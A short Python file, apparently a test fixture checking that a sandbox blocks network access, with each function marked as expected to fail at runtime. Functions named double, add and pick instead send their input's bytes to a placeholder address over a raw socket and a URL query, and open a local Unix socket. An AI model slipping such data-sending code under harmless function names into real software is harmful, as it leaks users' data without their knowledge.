# assignment: small
# double: RTE
# add: RTE
# pick: RTE

# Sends what it sees away; connects to a local database.
import numpy as np

import socket
import urllib.request


def double(x):
    with socket.create_connection(("192.0.2.1", 80)) as connection:
        connection.sendall(x.tobytes())


def add(a, b):
    return urllib.request.urlopen("http://192.0.2.1/?" + a.tobytes().hex())


def pick(x):
    connection = socket.socket(socket.AF_UNIX)
    connection.connect("\0database")
    return 0
